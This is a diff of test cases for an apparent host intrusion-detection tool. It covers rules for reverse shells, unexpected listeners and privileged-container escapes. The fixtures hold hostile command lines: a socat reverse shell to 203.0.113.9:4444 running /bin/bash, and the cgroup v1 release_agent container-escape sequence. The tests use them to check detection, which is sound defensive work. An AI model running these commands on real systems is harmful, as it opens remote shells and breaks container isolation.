@@ -173,6 +173,8 @@ test("socat joining two sockets is a port forwarder: no reverse shell, no shell-
   t.notMatch(run("unexpected-listener", h)[0]?.summary ?? "", /shell or netcat-like/);
   const shell = proc(1318, "socat", "/usr/bin/socat", "socat TCP:203.0.113.9:4444 EXEC:/bin/bash,pty,stderr,setsid");
   t.equal(findings(run("reverse-shell", host({ processes: [shell], process_open_sockets: [sock(1318, "203.0.113.9", 4444)] }))).length, 1, "EXEC: runs a shell");
+  const serial = proc(1320, "socat", "/usr/bin/socat", "socat TCP-LISTEN:4001,fork,reuseaddr FILE:/dev/ttyUSB0,b9600,raw,echo=0");
+  t.notMatch(run("unexpected-listener", host({ processes: [serial], listening_ports: [{ pid: "1320", port: "4001", protocol: "6", family: "2", address: "0.0.0.0" }] }))[0]?.summary ?? "", /shell or netcat-like/, "a serial-to-TCP bridge");
   const stdio = proc(1319, "socat", "/usr/bin/socat", "socat - TCP:203.0.113.9:4444");
   t.equal(findings(run("reverse-shell", host({ processes: [stdio], process_open_sockets: [sock(1319, "203.0.113.9", 4444)] }))).length, 1, "its stdio on a socket is still a netcat");
 });
@@ -209,6 +211,9 @@ test("privileged-container: a shell in pid 1's namespaces by nsenter from inside
   t.same(nsenter("/usr/bin/nsenter -m/proc/1/ns/mnt -- /bin/systemctl reboot"), [], "kured runs one program in the host's mount namespace");
   t.same(nsenter("nsenter -t 4242 -n ip addr"), [], "another process's namespaces, a program");
   t.notMatch(nsenter("nsenter -t 1 -a bash", "/")[0]?.summary ?? "none", /inside a container/, "on the host itself, said without the container");
+  const releaseAgent = findings(run("privileged-container", host({ processes: [proc(52010, "sh", "/bin/sh", "/bin/sh -c mkdir /tmp/cgrp && mount -t cgroup -o rdma cgroup /tmp/cgrp && mkdir /tmp/cgrp/x; echo 1 > /tmp/cgrp/x/notify_on_release; echo /cmd > /tmp/cgrp/release_agent", { root: ROOT })] })));
+  t.match(releaseAgent[0]?.summary, /cgroup release_agent/, "cgroup v1's escape");
+  t.same(findings(run("privileged-container", host({ processes: [proc(1, "systemd", "/usr/lib/systemd/systemd", "/sbin/init")] }))), [], "nothing else");
 });
 
 test("ld-so-preload: a vendor's documented preload explains the file however few processes map it", async (t) => {
